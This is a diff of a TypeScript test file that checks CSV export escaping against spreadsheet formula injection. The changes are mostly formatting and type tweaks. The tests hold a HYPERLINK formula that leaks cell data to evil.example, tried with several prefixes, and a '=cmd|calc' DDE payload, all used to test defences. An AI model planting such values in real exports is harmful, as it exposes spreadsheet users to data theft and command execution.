@@ -11,10 +11,12 @@ import { decodeEntry } from './ledger/encoding.ts';
 
 describe('CSV', () => {
   it('is read by another implementation as it was written, whatever the cells hold', () => {
-    const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', '\t', ' ', "'", ';', 'é', '0') });
+    const cell = fc.string({
+      unit: fc.constantFrom('a', '"', ',', '\r', '\n', '\t', ' ', "'", ';', 'é', '0'),
+    });
     fc.assert(
       fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
-        const [read] = parse(csvLine(cells), { record_delimiter: '\r\n' }) as string[][];
+        const [read] = parse(csvLine(cells), { record_delimiter: '\r\n' });
         assert.deepEqual(
           read,
           cells.map((value) => (/^[\t\r\n]/.test(value) ? `'${value}` : value)),
@@ -26,7 +28,7 @@ describe('CSV', () => {
   for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
     it(`no cell begins with ${JSON.stringify(start)}, which a spreadsheet would run`, () => {
       const formula = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
-      const [[first = ''] = []] = parse(csvLine([formula, 'b']), { record_delimiter: '\r\n' }) as string[][];
+      const [[first = ''] = []] = parse(csvLine([formula, 'b']), { record_delimiter: '\r\n' });
       assert.equal(first, `'${formula}`);
     });
   }
@@ -61,15 +63,18 @@ describe('export (AUD-5)', () => {
     ).rows;
 
   it('CSV: a heading, then every entry of the filter, oldest first, over many pages', async () => {
-    const rows = parse(await text({ format: 'csv', filter: { targetType: 'tenants.company' }, page: 4 }), {
-      columns: true,
-      record_delimiter: '\r\n',
-    }) as Record<string, string>[];
+    const rows = parse<Record<string, string>>(
+      await text({ format: 'csv', filter: { targetType: 'tenants.company' }, page: 4 }),
+      { columns: true, record_delimiter: '\r\n' },
+    );
     assert.equal(rows.length, 25);
     assert.deepEqual(new Set(rows.map(({ action }) => action)), new Set(['insert']));
     const ids = rows.map(({ id }) => BigInt(id ?? 0));
-    assert.deepEqual(ids, ids.toSorted((one, next) => (one < next ? -1 : 1)));
-    assert.equal(JSON.parse(rows[3]?.['after'] ?? '').name, '=cmd|calc');
+    assert.deepEqual(
+      ids,
+      ids.toSorted((one, next) => (one < next ? -1 : 1)),
+    );
+    assert.equal((JSON.parse(rows[3]?.['after'] ?? '') as { name: string }).name, '=cmd|calc');
     assert.equal(rows[0]?.['actorId'], host.accountId);
   });
 
